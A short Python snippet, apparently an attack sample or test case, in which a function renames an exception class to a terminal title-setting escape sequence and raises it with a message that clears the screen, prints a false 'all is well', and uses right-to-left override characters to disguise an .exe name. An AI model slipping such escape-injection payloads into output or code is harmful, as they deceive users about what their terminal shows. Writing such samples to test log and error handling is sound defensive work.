# attack: put commands for the terminal into an error and into names
# success: they reach a person's terminal as they are
class Sneaky(Exception):
    pass


def go(input):
    Sneaky.__name__ = "\x1b]0;owned\x07"
    raise Sneaky("\x1b[2J\x1b[1;1Hall is well\r\n\u202egnp.exe \u2066 \x9b31m")
